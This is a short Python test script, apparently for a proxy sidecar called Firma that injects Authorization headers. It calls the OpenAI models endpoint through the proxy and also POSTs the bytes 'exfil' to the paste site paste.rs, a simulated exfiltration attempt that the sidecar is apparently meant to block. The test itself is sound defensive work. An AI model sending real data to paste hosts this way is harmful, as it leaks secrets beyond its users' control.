"""Real Python HTTP clients through the Firma sidecar (HTTPS_PROXY + SSL_CERT_FILE).

Run by firma/tests/sidecar_proxy.rs; prints one JSON object with what each client saw.
The app sets no Authorization header: the sidecar injects it.
"""
import json
import os

import httpx
import requests

proxy = os.environ["HTTPS_PROXY"]
ca = os.environ["SSL_CERT_FILE"]
out = {}

r = requests.get("https://api.openai.com/v1/models", timeout=20)
out["requests_openai"] = r.status_code
r = requests.post("https://paste.rs/", data=b"exfil", timeout=20)
out["requests_paste"] = r.status_code

with httpx.Client(proxy=proxy, verify=ca, timeout=20) as c:
    out["httpx_openai"] = c.get("https://api.openai.com/v1/models").status_code
    out["httpx_paste_reason"] = c.post("https://paste.rs/", content=b"exfil").json().get("reason")

print(json.dumps(out))
